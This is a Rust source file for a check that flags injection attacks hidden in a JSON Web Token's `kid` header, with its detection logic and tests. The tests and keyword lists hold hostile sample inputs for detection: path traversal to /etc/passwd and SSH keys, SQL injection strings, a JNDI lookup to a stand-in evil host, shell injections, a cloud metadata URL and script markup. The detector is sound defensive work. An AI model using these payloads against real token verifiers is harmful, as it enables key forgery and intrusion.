//! Is `kid` a name, or an attack on whatever looks the key up?

use crate::checks::{Check, Finding, Outcome, Run, Step, TokenSubject, codes};
use crate::policy::{Gate, Policy, Refusal, decide};
use crate::text::is_unprintable;

codes! {
    /// `kid` is not the name of a key but a path, a piece of SQL, a command or the like.
    ///
    /// ## Why it matters
    /// A verifier that opens a file, asks a database or starts a program with this text can be made to use a key that the
    /// attacker knows: `../../dev/null` is an empty file, so the secret is empty; `' UNION SELECT 'x` makes the secret `x`.
    /// No issuer names its keys like this.
    ///
    /// ## Example
    ///     {"alg":"HS256","kid":"../../../../dev/null"}
    ///
    /// ## How to fix
    /// Refuse the token: this is an attack. Have your verifier compare `kid` with the names of keys that it already has, and
    /// do nothing else with it.
    ///
    /// ## References
    /// - <https://www.rfc-editor.org/rfc/rfc8725#section-3.10>
    /// - <https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/06-Session_Management_Testing/10-Testing_JSON_Web_Tokens>
    KID_INJECTION = "token/kid-injection", Error;
}

pub(crate) static CHECK: Check =
    Check { id: "token-kid", step: Some(Step::Extract), codes: &[&KID_INJECTION], run: Run::Token(run) };

fn run(subject: &TokenSubject<'_>, findings: &mut Vec<Finding>) -> Outcome {
    let Some(kid) = subject.token.header_text("kid") else { return Outcome::NotApplicable };
    let Some(attack) = injected(kid) else {
        return Outcome::Passed("`kid` is a name".to_owned());
    };
    let message = format!("`kid` is no name of a key: it holds {attack}");
    let finding = Finding::new(&KID_INJECTION, message.clone()).with("kid", kid);
    findings.push(finding.at(subject.header_location("kid")));
    Outcome::Failed(message)
}

/// What is injected, for the end of a sentence. Encodings of it count as it does.
fn injected(kid: &str) -> Option<&'static str> {
    // What nearly every name is made of can be no attack.
    let is_harmless = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_');
    if kid.bytes().all(is_harmless) {
        return None;
    }
    let mut text = kid.to_owned();
    for _ in 0..=MAX_ENCODINGS {
        if let Some(attack) = injected_plainly(&text) {
            return Some(attack);
        }
        let decoded = percent_decoded(&text);
        if decoded == text {
            break;
        }
        text = decoded;
    }
    None
}

fn injected_plainly(kid: &str) -> Option<&'static str> {
    // Compatibility forms are made plain: a receiver's database or file system may do the same.
    let text: String = kid.chars().map(plain).collect::<String>().to_lowercase();
    let has = |needles: &[&str]| needles.iter().any(|needle| text.contains(needle));
    if text.chars().any(is_unprintable) {
        Some("characters that cannot be seen")
    } else if is_path(&text) {
        Some("a path through a file system")
    } else if is_sql(&text) {
        Some("a piece of a database query")
    } else if has(&["${", "#{", "{{", "{%", "<%", "%{"]) {
        Some("an expression for a template")
    } else if has(&["<script", "<svg", "<img", "<iframe", "<!", "<?", "*)(", ")(|", ")(&", "[$ne]", "\"$", "'$"]) {
        Some("markup or a filter")
    } else if is_command(&text) {
        Some("a command for a shell")
    } else if SCHEMES.iter().any(|scheme| text.trim_start().starts_with(scheme)) {
        Some("an address that makes its reader open or run something")
    } else {
        address(&text)
    }
}

/// Steps upwards, the places that attacks use, a drive, a share. A plain `/` is met in honest names, and begins one sixty-
/// fourth of those that are base64.
fn is_path(text: &str) -> bool {
    let text = text.replace('\\', "/");
    let steps_up = text.split('/').any(|step| step == "..") || text.contains("..;/") || text.contains("....//");
    let rest = text.strip_prefix('/').unwrap_or_default();
    let first = rest.split('/').next().unwrap_or_default();
    let is_rooted = rest.contains('/') && ROOTS.contains(&first);
    let is_drive = matches!(text.as_bytes(), [letter, b':', b'/', ..] if letter.is_ascii_alphabetic());
    let is_share = text.starts_with("//");
    (steps_up && text.contains('/')) || is_rooted || is_drive || is_share || text.starts_with("~/")
}

/// A quotation mark that ends a text and goes on with a query, or words that only a query has.
fn is_sql(text: &str) -> bool {
    let spaced = text.replace("/**/", " ").replace(['\t', '\n', '\r', '+'], " ");
    let breaks_out = spaced.match_indices(['\'', '"', '`']).any(|(at, _)| {
        let rest = spaced.get(at + 1..).unwrap_or_default().trim_start().trim_start_matches([')', ' ', '\'', '"']);
        let word = rest.split(|character: char| !character.is_ascii_alphanumeric()).next().unwrap_or_default();
        ["or", "and", "union", "having", "limit", "order", "like", "where", "is", "in"].contains(&word)
            || [";", "--", "#", "=", "||", "&&", "/*"].iter().any(|mark| rest.starts_with(mark))
    });
    let quotes = spaced.matches(['\'', '"']).count();
    let is_open = quotes % 2 == 1 && (spaced.ends_with(['\'', '"']) || spaced.starts_with(['\'', '"']));
    let words: Vec<_> =
        spaced.split(|character: char| !character.is_ascii_alphanumeric() && character != '_').collect();
    let follow = |first: &str, second: &[&str]| {
        words.windows(2).any(|pair| matches!(pair, [one, two] if *one == first && second.contains(two)))
    };
    breaks_out
        || is_open
        || follow("union", &["select", "all", "distinct"])
        || follow("insert", &["into"])
        || follow("delete", &["from"])
        || follow("drop", &["table", "database"])
        || follow("waitfor", &["delay"])
        || follow("order", &["by"])
        || (words.contains(&"select") && (words.contains(&"from") || spaced.contains(['*', '(', '\''])))
        || ["or 1=1", "or 1 = 1", "and 1=1", "sleep(", "benchmark(", "xp_cmdshell", "information_schema", "load_file("]
            .iter()
            .any(|part| spaced.contains(part))
}

fn is_command(text: &str) -> bool {
    let runs = ["$(", "`", "|", "&&", ">/", "> /", "</", "< /"].iter().any(|mark| text.contains(mark));
    let follows = text.match_indices(['&', ';']).any(|(at, _)| {
        let rest = text.get(at + 1..).unwrap_or_default().trim_start();
        let end = rest.find(|character: char| !character.is_ascii_alphanumeric()).unwrap_or(rest.len());
        let (word, rest) = rest.split_at_checked(end).unwrap_or_default();
        COMMANDS.contains(&word) && (rest.is_empty() || rest.starts_with([' ', ';', '\'', '"', '&', '#']))
    });
    runs || follows
}

/// A URL may be a key's name (Azure Key Vault, DIDs), but not one that hides or imitates its host or leads inwards.
fn address(text: &str) -> Option<&'static str> {
    let rest = text.strip_prefix("http://").or_else(|| text.strip_prefix("https://"))?;
    match decide(&format!("https://{rest}"), &Policy::default()).gate {
        Gate::Refused(Refusal::UserInfo) => Some("an address that hides where it leads"),
        Gate::Refused(Refusal::LookAlike { .. }) => Some("an address whose host imitates one of Microsoft's"),
        Gate::Refused(Refusal::Private) => Some("an address inside a private network"),
        _ => None,
    }
}

/// `%2e` → `.`, also written `%u002e`. What is not an escape stays.
fn percent_decoded(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((first, after)) = rest.split_first() {
        rest = after;
        let digits = match after {
            [b'u' | b'U', b'0', b'0', high, low, ..] if *first == b'%' => Some((5, *high, *low)),
            [high, low, ..] if *first == b'%' => Some((2, *high, *low)),
            _ => None,
        };
        let value = |digit: u8| char::from(digit).to_digit(16).and_then(|value| u8::try_from(value).ok());
        match digits.and_then(|(length, high, low)| Some((length, value(high)? << 4 | value(low)?))) {
            Some((length, byte)) => {
                bytes.push(byte);
                rest = after.get(length..).unwrap_or_default();
            }
            None => bytes.push(*first),
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Full-width and typographic forms of the characters that attacks are made of.
fn plain(character: char) -> char {
    match character {
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(character) - 0xfee0).unwrap_or(character),
        '\u{2024}' | '\u{3002}' | '\u{ff61}' => '.',
        '\u{2215}' | '\u{2044}' | '\u{29f8}' => '/',
        '\u{2216}' | '\u{29f9}' => '\\',
        '\u{2018}' | '\u{2019}' | '\u{02bc}' | '\u{2032}' => '\'',
        '\u{201c}' | '\u{201d}' | '\u{2033}' => '"',
        other => other,
    }
}

/// How often attacks are encoded over one another.
const MAX_ENCODINGS: usize = 3;

const ROOTS: [&str; 20] = [
    "dev", "etc", "proc", "sys", "var", "usr", "tmp", "home", "root", "opt", "bin", "sbin", "lib", "mnt", "srv", "run",
    "app", "windows", "users", "inetpub",
];

const SCHEMES: [&str; 17] = [
    "file:",
    "ftp:",
    "gopher:",
    "dict:",
    "ldap:",
    "ldaps:",
    "rmi:",
    "jndi:",
    "jar:",
    "php:",
    "phar:",
    "data:",
    "expect:",
    "javascript:",
    "vbscript:",
    "netdoc:",
    "view-source:",
];

const COMMANDS: [&str; 22] = [
    "id",
    "ls",
    "cat",
    "rm",
    "sh",
    "bash",
    "curl",
    "wget",
    "nc",
    "ncat",
    "ping",
    "sleep",
    "whoami",
    "uname",
    "touch",
    "echo",
    "cmd",
    "powershell",
    "python",
    "perl",
    "dir",
    "type",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::testing::{check_token, encoded};

    #[track_caller]
    fn check(kid: &str, expected: Option<&str>) {
        assert_eq!(injected(kid), expected, "{kid:?}");
    }

    #[test]
    fn attacks_are_named_in_every_spelling() {
        for kid in [
            "../../../../dev/null",
            "..\\..\\windows\\win.ini",
            "/dev/null",
            "/proc/sys/kernel/randomize_va_space",
            "keys/../../etc/passwd",
            "..%2f..%2fdev%2fnull",
            "%2e%2e/%2e%2e/dev/null",
            "%252e%252e%252fdev%252fnull",
            "%u002e%u002e/dev/null",
            "\u{ff0e}\u{ff0e}/dev/null",
            "....//....//etc/passwd",
            "C:\\Windows\\key.pem",
            "\\\\evil.example\\share\\key",
            "~/.ssh/id_rsa",
        ] {
            check(kid, Some("a path through a file system"));
        }
        for kid in [
            "' OR '1'='1",
            "x' UNION SELECT 'secret' --",
            "x' union/**/select 'a",
            "1; DROP TABLE keys",
            "key'--",
            "key'",
            "\" or \"\"=\"",
            "x') OR ('1'='1",
            "%27%20OR%201=1",
            "\u{2019} OR 1=1",
            "a' AND SLEEP(5)#",
            "non-existent' UNION SELECT 'ATTACKER';-- -",
            "1 or 1=1",
        ] {
            check(kid, Some("a piece of a database query"));
        }
        for kid in ["${jndi:ldap://evil.example/a}", "{{7*7}}", "<%= 7 %>", "#{7*7}"] {
            check(kid, Some("an expression for a template"));
        }
        for kid in ["key|whoami", "key;sleep 10", "$(id)", "`id`", "key.pem & ping -n 9 evil", "/x && id"] {
            check(kid, Some("a command for a shell"));
        }
        check("key\0.pem", Some("characters that cannot be seen"));
        check("key%00.pem", Some("characters that cannot be seen"));
        check("key\r\nX: y", Some("characters that cannot be seen"));
        check("*)(uid=*", Some("markup or a filter"));
        check("<script>alert(1)</script>", Some("markup or a filter"));
        check("file:///etc/passwd", Some("an address that makes its reader open or run something"));
        check("https://login@evil.example/key", Some("an address that hides where it leads"));
        check("http://169.254.169.254/latest/meta-data", Some("an address inside a private network"));
        check(
            "https://outlook.office365.com.evil.example/k",
            Some("an address whose host imitates one of Microsoft's"),
        );
    }

    #[test]
    fn names_of_the_field_are_left_alone() {
        for kid in [
            "",
            "1",
            "0600F9F674620737E73404E287C45A818CB7CEB8",
            "BgD59nRiBzfnNATih8RagYy3zrg",
            "/3xJ/etcQ+==",
            "/dev+x9/8A==",
            "T1St-dLTvyWRgxB_676u8krXS-I",
            "bilbo.baggins@hobbiton.example",
            "77c7e2b8-6e13-45cf-8672-617b5b45243a",
            "https://vault.contoso.net/keys/signing/7f3c",
            "https://contoso.vault.azure.net/keys/token-signing/0a1b2c3d4e5f",
            "http://adfs.contoso.com/adfs/services/trust",
            "projects/x/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1",
            "arn:aws:kms:eu-west-1:111122223333:key/1234abcd",
            "did:web:example.com#key-1",
            "did:key:z6Mkh#z6Mkh",
            "urn:ietf:params:oauth:jwk-thumbprint:sha-256:NzbLsXh8",
            "O'Brien's key",
            "O'Brien key",
            "my key (2024), no. 3",
            "key;v=1",
            "R&D signing",
            "a..b",
            "v1..",
            "auth.example.com/2024",
            "selected from the vault",
            "sig=1&alg=rs256",
            "schlüssel-ä",
            "100%",
            "K+/abc==",
        ] {
            check(kid, None);
        }
    }

    #[test]
    fn the_finding_shows_what_it_is_about() {
        let token = encoded(r#"{"alg":"HS256","kid":"../../dev/null"}"#, "{}");
        let findings = check_token(&CHECK, &token, &["token/kid-injection"]);
        assert_eq!(findings[0].location.as_ref().unwrap().pointer, "/header/kid");
        check_token(&CHECK, &encoded(r#"{"alg":"HS256","kid":"a"}"#, "{}"), &[]);
        check_token(&CHECK, &encoded(r#"{"alg":"HS256"}"#, "{}"), &[]);
    }
}
